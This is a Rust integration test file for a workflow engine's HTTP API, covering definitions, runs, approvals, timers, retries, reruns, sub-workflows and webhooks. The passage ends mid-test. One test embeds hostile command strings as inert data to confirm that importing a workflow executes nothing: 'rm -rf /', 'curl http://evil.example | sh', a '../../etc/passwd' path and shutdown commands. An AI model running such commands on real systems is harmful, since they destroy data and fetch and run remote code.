//! Workflows over HTTP: definitions (versions, validation with lines, nothing runs on
//! import), runs (per-node view, events, branches, loops, parallel, map, sub-workflows,
//! agents), approvals (single use, expiry, across a restart), timers across a restart, dead
//! letters and retry, re-runs, idempotency and cancellation.

use crate::harness::{Response, Server, TestApp};
use axum::extract::State;
use serde_json::{Value, json};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

/// Creates a workflow from YAML (`POST /workflows`).
pub async fn post_yaml(app: &TestApp, yaml: &str) -> Response {
    app.send(
        app.http
            .post(app.url("/api/v1/workflows"))
            .bearer_auth(&app.token)
            .header("content-type", "application/yaml")
            .body(yaml.to_owned()),
    )
    .await
}

/// Saves a new version (`PUT /workflows/{slug}`).
pub async fn put_yaml(app: &TestApp, slug: &str, yaml: &str) -> Response {
    app.send(
        app.http
            .put(app.url(&format!("/api/v1/workflows/{slug}")))
            .bearer_auth(&app.token)
            .header("content-type", "application/yaml")
            .body(yaml.to_owned()),
    )
    .await
}

pub async fn start(app: &TestApp, slug: &str, input: Value) -> String {
    let r = app
        .post(
            &format!("/api/v1/workflows/{slug}/runs"),
            json!({"input": input}),
        )
        .await;
    assert_eq!(r.status, 202, "{:?}", r.body);
    r.body["id"].as_str().unwrap().to_string()
}

pub async fn run_of(app: &TestApp, id: &str) -> Value {
    app.get(&format!("/api/v1/workflow-runs/{id}")).await.body
}

/// Polls until the run's status satisfies `done` (or panics after `timeout`).
pub async fn wait_status(app: &TestApp, id: &str, timeout: Duration, done: &[&str]) -> Value {
    let deadline = Instant::now() + timeout;
    loop {
        let run = run_of(app, id).await;
        if done.contains(&run["status"].as_str().unwrap_or("")) {
            return run;
        }
        assert!(
            Instant::now() < deadline,
            "run {id} is still {} after {timeout:?}: {run}\n{}",
            run["status"],
            app.server.log_text()
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

pub async fn wait_end(app: &TestApp, id: &str) -> Value {
    wait_status(
        app,
        id,
        Duration::from_secs(60),
        &["completed", "failed", "cancelled"],
    )
    .await
}

/// Waits for the run's pending approvals (at least `n`) and returns their ids.
pub async fn pending_approvals(app: &TestApp, run: &str, n: usize) -> Vec<String> {
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let r = app
            .get(&format!("/api/v1/approvals?status=pending&run_id={run}"))
            .await;
        let ids: Vec<String> = r.body["data"]
            .as_array()
            .cloned()
            .unwrap_or_default()
            .iter()
            .filter_map(|a| a["id"].as_str().map(str::to_owned))
            .collect();
        if ids.len() >= n {
            return ids;
        }
        assert!(
            Instant::now() < deadline,
            "no {n} pending approvals for {run}: {:?}",
            r.body
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

const LINEAR: &str = r#"apiVersion: agentry/v1
kind: Workflow
metadata: {name: pricing}
spec:
  input:
    type: object
    required: [qty, unit]
    properties: {qty: {type: integer}, unit: {type: number}}
  start: total
  nodes:
    total:
      type: transform
      jq: ".input.qty * .input.unit"
      into: total
      next: size
    size:
      type: switch
      cases:
        - when: "total > 100"
          next: big
      default: small
    big:
      type: transform
      template: "big order of {{ total }}"
      into: label
      next: done
    small:
      type: transform
      template: "small order of {{ total }}"
      into: label
      next: done
    done:
      type: end
      output: {total: "{{ total }}", label: "{{ label }}"}
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_workflow_runs_its_nodes_in_order_and_shows_each_one() {
    let app = TestApp::spawn().await;
    let created = post_yaml(&app, LINEAR).await;
    assert_eq!(created.status, 201, "{:?}", created.body);
    assert_eq!(created.body["version"], 1);

    let id = start(&app, "pricing", json!({"qty": 30, "unit": 5})).await;
    let run = wait_end(&app, &id).await;
    assert_eq!(run["status"], "completed", "{run}");
    assert_eq!(
        run["output"],
        json!({"total": 150, "label": "big order of 150"})
    );
    let nodes: Vec<(&str, &str)> = run["nodes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|n| (n["node"].as_str().unwrap(), n["status"].as_str().unwrap()))
        .collect();
    assert_eq!(
        nodes,
        vec![
            ("total", "completed"),
            ("size", "completed"),
            ("big", "completed"),
            ("done", "completed")
        ]
    );
    assert_eq!(run["nodes"][0]["output"], 150);
    assert!(run["nodes"][0]["duration_ms"].is_i64());
    assert_eq!(run["state"]["label"], "big order of 150");

    // The other branch.
    let id2 = start(&app, "pricing", json!({"qty": 1, "unit": 5})).await;
    let run2 = wait_end(&app, &id2).await;
    assert_eq!(run2["output"]["label"], "small order of 5");

    // Events: node.completed for each node, then run.completed; the stream closes.
    let events = app
        .sse_of(&format!("/api/v1/workflow-runs/{id}/events"), None)
        .await;
    let names: Vec<&str> = events.iter().map(|e| e.0.as_str()).collect();
    assert_eq!(names.first(), Some(&"run.queued"));
    assert_eq!(names.last(), Some(&"run.completed"));
    assert_eq!(names.iter().filter(|n| **n == "node.completed").count(), 4);
    // Resuming after an event id gives exactly the rest.
    let third = events[2].1;
    let rest = app
        .sse_of(&format!("/api/v1/workflow-runs/{id}/events"), Some(third))
        .await;
    assert_eq!(rest.len(), events.len() - 3);

    // Input that does not match the schema: 422 naming the problem, nothing queued.
    let bad = app
        .post(
            "/api/v1/workflows/pricing/runs",
            json!({"input": {"qty": "many"}}),
        )
        .await;
    assert_eq!(bad.status, 422);
    assert_eq!(bad.body["error"]["code"], "workflow_input_invalid");

    // The same Idempotency-Key starts one run.
    let key_run = |key: &'static str| {
        app.send(
            app.http
                .post(app.url("/api/v1/workflows/pricing/runs"))
                .bearer_auth(&app.token)
                .header("idempotency-key", key)
                .json(&json!({"input": {"qty": 2, "unit": 2}})),
        )
    };
    let a = key_run("order-1").await;
    let b = key_run("order-1").await;
    assert_eq!(a.body["id"], b.body["id"]);
}

impl TestApp {
    /// Reads an SSE stream to its end: (event name, id).
    pub async fn sse_of(&self, path: &str, after: Option<i64>) -> Vec<(String, i64, Value)> {
        let mut req = self.http.get(self.url(path)).bearer_auth(&self.token);
        if let Some(a) = after {
            req = req.header("last-event-id", a.to_string());
        }
        let resp = tokio::time::timeout(Duration::from_secs(30), async {
            req.send().await.unwrap().text().await.unwrap()
        })
        .await
        .expect("the stream closed");
        let mut out = Vec::new();
        for block in resp.split("\n\n") {
            let mut name = String::new();
            let mut id = 0;
            let mut data = Value::Null;
            for line in block.lines() {
                if let Some(v) = line.strip_prefix("event:") {
                    name = v.trim().to_owned();
                } else if let Some(v) = line.strip_prefix("id:") {
                    id = v.trim().parse().unwrap_or(0);
                } else if let Some(v) = line.strip_prefix("data:") {
                    data = serde_json::from_str(v.trim()).unwrap_or(Value::Null);
                }
            }
            if !name.is_empty() {
                out.push((name, id, data));
            }
        }
        out
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn invalid_definitions_name_the_node_the_field_and_the_line() {
    let app = TestApp::spawn().await;
    let yaml = r#"apiVersion: agentry/v1
kind: Workflow
metadata: {name: broken}
spec:
  start: first
  nodes:
    first:
      type: transform
      jq: ".input"
      into: x
      next: nowhere
    done:
      type: end
"#;
    let r = post_yaml(&app, yaml).await;
    assert_eq!(r.status, 422, "{:?}", r.body);
    assert_eq!(r.body["error"]["code"], "workflow_invalid");
    let errors = r.body["error"]["details"]["errors"].as_array().unwrap();
    let dangling = errors
        .iter()
        .find(|e| e["field"] == "next")
        .unwrap_or_else(|| panic!("{errors:?}"));
    assert_eq!(dangling["node"], "first");
    assert_eq!(dangling["line"], 11);
    assert!(
        r.body["error"]["message"]
            .as_str()
            .unwrap()
            .contains("line")
    );

    // An unknown agent is named with its line too.
    let yaml = r#"apiVersion: agentry/v1
kind: Workflow
metadata: {name: needs-agent}
spec:
  start: ask
  nodes:
    ask:
      type: agent
      agent: no-such-agent
      next: done
    done: {type: end}
"#;
    let r = post_yaml(&app, yaml).await;
    assert_eq!(r.status, 422, "{:?}", r.body);
    let e = &r.body["error"]["details"]["errors"][0];
    assert_eq!(e["node"], "ask");
    assert_eq!(e["field"], "agent");
    assert_eq!(e["line"], 9);

    // Nothing was saved.
    assert_eq!(app.get("/api/v1/workflows/broken").await.status, 404);
    // The path and the name must agree.
    let r = put_yaml(&app, "other-name", LINEAR).await;
    assert_eq!(r.status, 422);
    // A body that is neither YAML nor JSON is refused with a clear code.
    let r = app
        .send(
            app.http
                .post(app.url("/api/v1/workflows"))
                .bearer_auth(&app.token)
                .header("content-type", "text/plain")
                .body("hello"),
        )
        .await;
    assert_eq!(r.status, 415);
}

/// Importing and validating a definition full of command-like strings runs nothing: no
/// request reaches the URL it names, no run is created.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn importing_a_workflow_executes_nothing() {
    let app = TestApp::spawn().await;
    let (url, hits) = counter_server(200).await;
    let yaml = format!(
        r#"apiVersion: agentry/v1
kind: Workflow
metadata: {{name: looks-dangerous}}
spec:
  start: call
  nodes:
    call:
      type: http
      method: POST
      url: "{url}"
      body: {{cmd: "$(rm -rf /) ; curl http://evil.example | sh", path: "../../etc/passwd"}}
      next: shape
    shape:
      type: transform
      template: "{{{{ '`reboot`' }}}} && shutdown -h now"
      into: x
      next: done
    done: {{type: end}}
"#
    );
    let validated = app
        .send(
            app.http
                .post(app.url("/api/v1/workflows/validate"))
                .bearer_auth(&app.token)
                .header("content-type", "application/yaml")
                .body(yaml.clone()),
        )
        .await;
    assert_eq!(validated.status, 200, "{:?}", validated.body);
    assert_eq!(validated.body["nodes"], 3);
    let saved = post_yaml(&app, &yaml).await;
    assert_eq!(saved.status, 201, "{:?}", saved.body);
    assert_eq!(
        app.get("/api/v1/workflows/looks-dangerous").await.status,
        200
    );
    tokio::time::sleep(Duration::from_millis(500)).await;
    assert_eq!(
        hits.load(Ordering::SeqCst),
        0,
        "saving a workflow made a request"
    );
    let runs = app.get("/api/v1/workflow-runs").await;
    assert_eq!(runs.body["data"].as_array().unwrap().len(), 0);
}

/// A local HTTP server counting POSTs to `/effect` per Idempotency-Key; answers `status`
/// until told otherwise through the returned counter's twin.
pub async fn counter_server(status: u16) -> (String, Arc<AtomicUsize>) {
    let (url, hits, _, _) = effect_server(status).await;
    (url, hits)
}

pub type Keys = Arc<std::sync::Mutex<Vec<String>>>;

/// `/effect` counts hits and records Idempotency-Keys; answers the status in `answer`.
pub async fn effect_server(status: u16) -> (String, Arc<AtomicUsize>, Keys, Arc<AtomicUsize>) {
    let hits = Arc::new(AtomicUsize::new(0));
    let keys: Keys = Arc::new(std::sync::Mutex::new(Vec::new()));
    let answer = Arc::new(AtomicUsize::new(status as usize));
    let state = (hits.clone(), keys.clone(), answer.clone());
    let app = axum::Router::new()
        .route(
            "/effect",
            axum::routing::any(
                |State((hits, keys, answer)): State<(Arc<AtomicUsize>, Keys, Arc<AtomicUsize>)>,
                 headers: axum::http::HeaderMap| async move {
                    hits.fetch_add(1, Ordering::SeqCst);
                    if let Some(k) = headers.get("idempotency-key").and_then(|v| v.to_str().ok()) {
                        keys.lock().unwrap().push(k.to_string());
                    }
                    let code =
                        axum::http::StatusCode::from_u16(answer.load(Ordering::SeqCst) as u16)
                            .unwrap_or(axum::http::StatusCode::OK);
                    (code, axum::Json(json!({"ok": code.is_success()})))
                },
            ),
        )
        .with_state(state);
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        let _ = axum::serve(listener, app).await;
    });
    (format!("http://{addr}/effect"), hits, keys, answer)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn parallel_branches_map_items_and_bounded_loops() {
    let app = TestApp::spawn().await;
    let yaml = r#"apiVersion: agentry/v1
kind: Workflow
metadata: {name: fan}
spec:
  start: init
  nodes:
    init: {type: transform, jq: "0", into: count, next: loop}
    loop: {type: transform, jq: ".count + 1", into: count, next: again, max_visits: 10}
    again:
      type: switch
      cases: [{when: "count < 3", next: loop}]
      default: split
    split:
      type: parallel
      branches: [left, right]
      join: squares
      merge: object
      into: sides
    left: {type: transform, jq: ".count * 10", into: l, next: squares}
    right: {type: transform, template: "r{{ count }}", into: r, next: squares}
    squares:
      type: map
      items: "input.xs"
      node: square
      concurrency: 2
      into: squared
      next: done
    square: {type: transform, jq: ".item * .item", into: sq}
    done:
      type: end
      output: {count: "{{ count }}", sides: "{{ sides }}", squared: "{{ squared }}"}
"#;
    let r = post_yaml(&app, yaml).await;
    assert_eq!(r.status, 201, "{:?}", r.body);
    let id = start(&app, "fan", json!({"xs": [1, 2, 3, 4, 5]})).await;
    let run = wait_end(&app, &id).await;
    assert_eq!(run["status"], "completed", "{run}");
    assert_eq!(run["output"]["count"], 3);
    assert_eq!(run["output"]["sides"], json!({"left": 30, "right": "r3"}));
    assert_eq!(run["output"]["squared"], json!([1, 4, 9, 16, 25]));
    let loops = run["nodes"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|n| n["node"] == "loop")
        .count();
    assert_eq!(loops, 3);

    // A loop past its bound fails with a clear code instead of spinning.
    let yaml = r#"apiVersion: agentry/v1
kind: Workflow
metadata: {name: spin}
spec:
  start: step
  nodes:
    step: {type: transform, jq: "1", into: x, next: back, max_visits: 4}
    back:
      type: switch
      cases: [{when: "true", next: step}]
      default: done
    done: {type: end}
"#;
    assert_eq!(post_yaml(&app, yaml).await.status, 201);
    let id = start(&app, "spin", json!({})).await;
    let run = wait_end(&app, &id).await;
    assert_eq!(run["status"], "failed");
    assert_eq!(run["error"]["code"], "workflow_limit_exceeded", "{run}");
    assert_eq!(run["error"]["node"], "step");
}

const APPROVAL: &str = r#"apiVersion: agentry/v1
kind: Workflow
metadata: {name: refund}
spec:
  start: ask
  nodes:
    ask:
      type: approval
      assignee_role: member
      message: "Refund {{ input.amount }} EUR?"
      next_approved: pay
      next_rejected: refuse
    pay: {type: transform, template: "paid {{ amount | default(input.amount) }}", into: result, next: done}
    refuse: {type: transform, template: "refused", into: result, next: done}
    done: {type: end, output: {result: "{{ result }}"}}
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn of_ten_concurrent_decisions_exactly_one_wins() {
    let app = TestApp::spawn().await;
    assert_eq!(post_yaml(&app, APPROVAL).await.status, 201);
    let id = start(&app, "refund", json!({"amount": 40})).await;
    let waiting = wait_status(&app, &id, Duration::from_secs(30), &["waiting"]).await;
    assert_eq!(waiting["status"], "waiting");
    let approval = pending_approvals(&app, &id, 1).await.remove(0);
    let shown = app.get(&format!("/api/v1/approvals/{approval}")).await;
    assert_eq!(shown.body["message"], "Refund 40 EUR?");

    let mut tasks = Vec::new();
    for i in 0..10 {
        let http = app.http.clone();
        let url = app.url(&format!("/api/v1/approvals/{approval}"));
        let token = app.token.clone();
        tasks.push(tokio::spawn(async move {
            let body = if i % 2 == 0 {
                json!({"decision": "approve", "comment": format!("ok {i}"), "state_patch": {"amount": 35}})
            } else {
                json!({"decision": "reject", "comment": format!("no {i}")})
            };
            let r = http.post(url).bearer_auth(token).json(&body).send().await.unwrap();
            let status = r.status().as_u16();
            let body: Value = r.json().await.unwrap_or(Value::Null);
            (status, body)
        }));
    }
    let mut wins = Vec::new();
    let mut conflicts = 0;
    for t in tasks {
        let (status, body) = t.await.unwrap();
        match status {
            200 => wins.push(body),
            409 => {
                assert_eq!(body["error"]["code"], "approval_already_decided");
                conflicts += 1;
            }
            other => panic!("unexpected {other}: {body}"),
        }
    }
    assert_eq!(wins.len(), 1, "exactly one decision wins");
    assert_eq!(conflicts, 9);
    let run = wait_end(&app, &id).await;
    let approved = wins[0]["status"] == "approved";
    let expected = if approved { "paid 35" } else { "refused" };
    assert_eq!(run["output"]["result"], expected, "{run}");
    let events = app
        .sse_of(&format!("/api/v1/workflow-runs/{id}/events"), None)
        .await;
    let decided: Vec<_> = events
        .iter()
        .filter(|e| e.0 == "approval.decided")
        .collect();
    assert_eq!(decided.len(), 1);
    assert!(events.iter().any(|e| e.0 == "approval.requested"));
    // Deciding again: 409.
    let again = app
        .post(
            &format!("/api/v1/approvals/{approval}"),
            json!({"decision": "approve"}),
        )
        .await;
    assert_eq!(again.status, 409);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_expired_approval_answers_410_and_takes_its_timeout_route() {
    let app = TestApp::spawn().await;
    let yaml = APPROVAL
        .replace("metadata: {name: refund}", "metadata: {name: quick}")
        .replace(
            "      assignee_role: member\n",
            "      assignee_role: member\n      timeout_seconds: 1\n      on_timeout: reject\n",
        );
    assert_eq!(post_yaml(&app, &yaml).await.status, 201, "{yaml}");
    let id = start(&app, "quick", json!({"amount": 5})).await;
    let approval = pending_approvals(&app, &id, 1).await.remove(0);
    tokio::time::sleep(Duration::from_millis(1500)).await;
    let late = app
        .post(
            &format!("/api/v1/approvals/{approval}"),
            json!({"decision": "approve"}),
        )
        .await;
    assert!(
        late.status == 410 || late.status == 409,
        "a decision after the deadline: {} {:?}",
        late.status,
        late.body
    );
    let run = wait_end(&app, &id).await;
    assert_eq!(run["output"]["result"], "refused", "{run}");
    let a = app.get(&format!("/api/v1/approvals/{approval}")).await;
    assert_eq!(a.body["status"], "expired");
}

/// An approval decided while the executing server is down is honoured once after it restarts.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_approval_given_while_the_server_is_down_is_honoured_once() {
    let mut app = TestApp::spawn().await;
    assert_eq!(post_yaml(&app, APPROVAL).await.status, 201);
    let id = start(&app, "refund", json!({"amount": 12})).await;
    let approval = pending_approvals(&app, &id, 1).await.remove(0);
    app.server.kill();
    // An API-only server (no workers) on the same data takes the decision.
    let api_only = TestApp {
        server: Server::start(&app.server.storage, &[("AGENTRY_WORKER_CONCURRENCY", "0")]),
        fake: app.fake.clone(),
        http: app.http.clone(),
        token: app.token.clone(),
    };
    let decided = api_only
        .post(
            &format!("/api/v1/approvals/{approval}"),
            json!({"decision": "approve"}),
        )
        .await;
    assert_eq!(decided.status, 200, "{:?}", decided.body);
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert_eq!(run_of(&api_only, &id).await["status"], "waiting");
    app.server.restart();
    let run = wait_end(&app, &id).await;
    assert_eq!(run["status"], "completed", "{run}");
    assert_eq!(run["output"]["result"], "paid 12");
    let events = app
        .sse_of(&format!("/api/v1/workflow-runs/{id}/events"), None)
        .await;
    assert_eq!(
        events.iter().filter(|e| e.0 == "approval.decided").count(),
        1
    );
    assert_eq!(events.iter().filter(|e| e.0 == "run.completed").count(), 1);
}

/// A timer set before a crash fires after the restart.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_wait_survives_kill_9_and_fires_after_the_restart() {
    let mut app = TestApp::spawn().await;
    let yaml = r#"apiVersion: agentry/v1
kind: Workflow
metadata: {name: later}
spec:
  start: nap
  nodes:
    nap: {type: wait, seconds: 3, next: wake}
    wake: {type: transform, template: "woke", into: w, next: done}
    done: {type: end, output: {w: "{{ w }}"}}
"#;
    assert_eq!(post_yaml(&app, yaml).await.status, 201);
    let id = start(&app, "later", json!({})).await;
    wait_status(&app, &id, Duration::from_secs(30), &["waiting"]).await;
    app.server.kill();
    tokio::time::sleep(Duration::from_secs(3)).await;
    app.server.restart();
    let run = wait_end(&app, &id).await;
    assert_eq!(run["status"], "completed", "{run}");
    assert_eq!(run["output"]["w"], "woke");
    let waits = run["nodes"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|n| n["node"] == "nap")
        .count();
    assert_eq!(waits, 1, "the timer was set once");
}

/// A node that exhausts its retries parks the run in the dead letters with its error and
/// attempts; retrying resumes it from that node once.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn dead_letters_keep_the_error_and_retry_once_from_the_failed_node() {
    let app = TestApp::spawn().await;
    let (url, hits, keys, answer) = effect_server(500).await;
    let yaml = format!(
        r#"apiVersion: agentry/v1
kind: Workflow
metadata: {{name: charge}}
spec:
  start: prepare
  nodes:
    prepare: {{type: transform, jq: ".input.amount", into: amount, next: call}}
    call:
      type: http
      method: PUT
      url: "{url}"
      body: {{amount: "{{{{ amount }}}}"}}
      retry: {{attempts: 2, backoff_ms: 100}}
      into: receipt
      next: done
    done: {{type: end, output: {{status: "{{{{ receipt.status }}}}"}}}}
"#
    );
    assert_eq!(post_yaml(&app, &yaml).await.status, 201);
    let id = start(&app, "charge", json!({"amount": 9})).await;
    let run = wait_end(&app, &id).await;
    assert_eq!(run["status"], "failed", "{run}");
    assert_eq!(run["error"]["code"], "http_500");
    assert_eq!(run["error"]["node"], "call");
    assert_eq!(hits.load(Ordering::SeqCst), 2, "two attempts");
    let call = run["nodes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|n| n["node"] == "call")
        .unwrap()
        .clone();
    assert_eq!(call["status"], "failed");
    assert_eq!(call["attempts"], 2);
    // Both attempts carried the same idempotency key.
    let k = keys.lock().unwrap().clone();
    assert_eq!(k.len(), 2);
    assert_eq!(k[0], k[1]);
    // Dead letters are listed.
    let dead = app.get("/api/v1/workflow-runs?status=failed").await;
    assert_eq!(dead.body["data"][0]["id"], id.as_str());

    answer.store(200, Ordering::SeqCst);
    let retried = app
        .post(&format!("/api/v1/workflow-runs/{id}/retry"), json!({}))
        .await;
    assert_eq!(retried.status, 202, "{:?}", retried.body);
    let again = app
        .post(&format!("/api/v1/workflow-runs/{id}/retry"), json!({}))
        .await;
    assert_eq!(
        again.status, 409,
        "a second retry is refused: {:?}",
        again.body
    );
    let run = wait_end(&app, &id).await;
    assert_eq!(run["status"], "completed", "{run}");
    assert_eq!(run["output"]["status"], 200);
    assert_eq!(hits.load(Ordering::SeqCst), 3);
    // `prepare` ran once: the retry resumed at the failed node.
    let prepares = run["nodes"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|n| n["node"] == "prepare")
        .count();
    assert_eq!(prepares, 1);
    let retry_again = app
        .post(&format!("/api/v1/workflow-runs/{id}/retry"), json!({}))
        .await;
    assert_eq!(retry_again.status, 409);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_rerun_from_a_node_with_edited_state_leaves_the_original_untouched() {
    let app = TestApp::spawn().await;
    assert_eq!(post_yaml(&app, LINEAR).await.status, 201);
    let id = start(&app, "pricing", json!({"qty": 30, "unit": 5})).await;
    let original = wait_end(&app, &id).await;
    let r = app
        .post(
            &format!("/api/v1/workflow-runs/{id}/rerun"),
            json!({"from_node": "size", "state": {"input": {"qty": 1, "unit": 1}, "total": 7}}),
        )
        .await;
    assert_eq!(r.status, 202, "{:?}", r.body);
    assert_eq!(r.body["rerun_of"], id.as_str());
    let new_id = r.body["id"].as_str().unwrap().to_string();
    let rerun = wait_end(&app, &new_id).await;
    assert_eq!(
        rerun["output"],
        json!({"total": 7, "label": "small order of 7"})
    );
    assert_eq!(rerun["nodes"][0]["node"], "size");
    assert_eq!(run_of(&app, &id).await, original);
    let bad = app
        .post(
            &format!("/api/v1/workflow-runs/{id}/rerun"),
            json!({"from_node": "nope"}),
        )
        .await;
    assert_eq!(bad.status, 422);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_running_workflow_keeps_its_version_and_cancel_stops_a_parked_run() {
    let app = TestApp::spawn().await;
    let v1 = r#"apiVersion: agentry/v1
kind: Workflow
metadata: {name: versioned}
spec:
  start: nap
  nodes:
    nap: {type: wait, seconds: 1, next: say}
    say: {type: transform, template: "v1", into: v, next: done}
    done: {type: end, output: {v: "{{ v }}"}}
"#;
    assert_eq!(post_yaml(&app, v1).await.status, 201);
    let id = start(&app, "versioned", json!({})).await;
    let v2 = v1.replace("template: \"v1\"", "template: \"v2\"");
    let saved = put_yaml(&app, "versioned", &v2).await;
    assert_eq!(saved.status, 200);
    assert_eq!(saved.body["version"], 2);
    let run = wait_end(&app, &id).await;
    assert_eq!(run["output"]["v"], "v1");
    assert_eq!(run["version"], 1);
    let id2 = start(&app, "versioned", json!({})).await;
    assert_eq!(wait_end(&app, &id2).await["output"]["v"], "v2");
    let versions = app.get("/api/v1/workflows/versioned/versions").await;
    assert_eq!(versions.body["data"].as_array().unwrap().len(), 2);
    let old = app.get("/api/v1/workflows/versioned/versions/1").await;
    assert_eq!(old.status, 200);

    // Cancel a run parked on a long wait.
    let long = v1
        .replace("metadata: {name: versioned}", "metadata: {name: sleepy}")
        .replace("seconds: 1", "seconds: 3600");
    assert_eq!(post_yaml(&app, &long).await.status, 201);
    let id3 = start(&app, "sleepy", json!({})).await;
    wait_status(&app, &id3, Duration::from_secs(30), &["waiting"]).await;
    let c = app
        .post(&format!("/api/v1/workflow-runs/{id3}/cancel"), json!({}))
        .await;
    assert_eq!(c.status, 200, "{:?}", c.body);
    let run = wait_end(&app, &id3).await;
    assert_eq!(run["status"], "cancelled");
    let c = app
        .post(&format!("/api/v1/workflow-runs/{id3}/cancel"), json!({}))
        .await;
    assert_eq!(c.status, 409);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn agent_and_sub_workflow_nodes_run_as_nested_runs() {
    let app = TestApp::spawn().await;
    app.create_fake_provider().await;
    app.create_agent("echoer", "echo", &[]).await;
    let child = r#"apiVersion: agentry/v1
kind: Workflow
metadata: {name: child}
spec:
  input: {type: object, required: [word]}
  start: up
  nodes:
    up: {type: transform, jq: ".input.word | ascii_upcase", into: up, next: done}
    done: {type: end, output: {up: "{{ up }}"}}
"#;
    assert_eq!(post_yaml(&app, child).await.status, 201);
    let parent = r#"apiVersion: agentry/v1
kind: Workflow
metadata: {name: parent}
spec:
  start: ask
  nodes:
    ask: {type: agent, agent: echoer, input: "say {{ input.word }}", into: said, next: sub}
    sub: {type: workflow, workflow: child, input: {word: "{{ input.word }}"}, into: sub, next: done}
    done: {type: end, output: {said: "{{ said }}", sub: "{{ sub }}"}}
"#;
    let saved = post_yaml(&app, parent).await;
    assert_eq!(saved.status, 201, "{:?}", saved.body);
    let id = start(&app, "parent", json!({"word": "hi"})).await;
    let run = wait_end(&app, &id).await;
    assert_eq!(run["status"], "completed", "{run}");
    assert!(
        run["output"]["said"].as_str().unwrap().contains("say hi"),
        "{run}"
    );
    assert_eq!(run["output"]["sub"], json!({"up": "HI"}));
    let ask = &run["nodes"][0];
    let agent_run = ask["child_run_id"].as_str().unwrap();
    let agent_run = app.get(&format!("/api/v1/runs/{agent_run}")).await;
    assert_eq!(agent_run.body["status"], "completed");
    assert!(agent_run.body["usage"]["input_tokens"].as_i64().unwrap() > 0);
    let sub_id = run["nodes"][1]["child_run_id"].as_str().unwrap();
    let sub = run_of(&app, sub_id).await;
    assert_eq!(sub["parent_run_id"], id.as_str());
    assert_eq!(sub["status"], "completed");

    // A sub-workflow missing a required input is refused when saved, naming the node.
    let bad = parent
        .replace("metadata: {name: parent}", "metadata: {name: parent2}")
        .replace("input: {word: \"{{ input.word }}\"}", "input: {other: 1}");
    let r = post_yaml(&app, &bad).await;
    assert_eq!(r.status, 422, "{:?}", r.body);
    assert_eq!(r.body["error"]["details"]["errors"][0]["node"], "sub");
}

/// Webhooks start workflows with the payload as input (a redelivery starts nothing more), and
/// "when workflow X completes" starts another workflow with X's output.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn webhooks_and_workflow_events_start_workflows() {
    let app = TestApp::spawn().await;
    let intake = r#"apiVersion: agentry/v1
kind: Workflow
metadata: {name: intake}
spec:
  start: total
  nodes:
    total: {type: transform, jq: ".input.payload.qty * .input.payload.unit", into: total, next: done}
    done: {type: end, output: {total: "{{ total }}"}}
"#;
    assert_eq!(post_yaml(&app, intake).await.status, 201);
    let follow_up = r#"apiVersion: agentry/v1
kind: Workflow
metadata: {name: follow-up}
spec:
  start: note
  nodes:
    note: {type: transform, template: "{{ input.status }}: {{ input.output.total }}", into: note, next: done}
    done: {type: end, output: {note: "{{ note }}"}}
"#;
    assert_eq!(post_yaml(&app, follow_up).await.status, 201);
    let event = app
        .post(
            "/api/v1/triggers",
            json!({"name": "after-intake", "kind": "event",
                   "target": {"kind": "workflow", "slug": "follow-up"},
                   "config": {"source_kind": "workflow", "source": "intake", "on": ["completed"]}}),
        )
        .await;
    assert_eq!(event.status, 201, "{:?}", event.body);
    let hook = app
        .post(
            "/api/v1/triggers",
            json!({"name": "orders", "kind": "webhook", "target": {"kind": "workflow", "slug": "intake"}}),
        )
        .await;
    assert_eq!(hook.status, 201, "{:?}", hook.body);
    let hook_id = hook.body["id"].as_str().unwrap();
    let secret = hook.body["secret"].as_str().unwrap();
    let body = r#"{"qty": 3, "unit": 50}"#;
    let ts = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs() as i64;
    let signature =
        agentry_triggers::webhook::sign(secret, "msg_order_1", ts, body.as_bytes()).unwrap();
    let deliver = || {
        app.send(
            app.http
                .post(app.url(&format!("/api/v1/hooks/{hook_id}")))
                .header("content-type", "application/json")
                .header("webhook-id", "msg_order_1")
                .header("webhook-timestamp", ts.to_string())
                .header("webhook-signature", signature.clone())
                .body(body),
        )
    };
    let first = deliver().await;
    assert_eq!(first.status, 202, "{:?}", first.body);
    let again = deliver().await;
    assert_eq!(again.status, 200, "{:?}", again.body);
    let runs = app.get("/api/v1/workflow-runs?workflow=intake").await;
    let runs = runs.body["data"].as_array().unwrap().clone();
    assert_eq!(runs.len(), 1, "one run per webhook id");
    assert_eq!(runs[0]["input"]["payload"], json!({"qty": 3, "unit": 50}));
    let run = wait_end(&app, runs[0]["id"].as_str().unwrap()).await;
    assert_eq!(run["output"]["total"], 150, "{run}");
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let follow = app.get("/api/v1/workflow-runs?workflow=follow-up").await;
        if let Some(f) = follow.body["data"].as_array().and_then(|d| d.first()) {
            let f = wait_end(&app, f["id"].as_str().unwrap()).await;
            assert_eq!(f["output"]["note"], "completed: 150", "{f}");
            assert_eq!(f["trigger"]["kind"], "event", "{f}");
            break;
        }
        assert!(Instant::now() < deadline, "the event trigger did not fire");
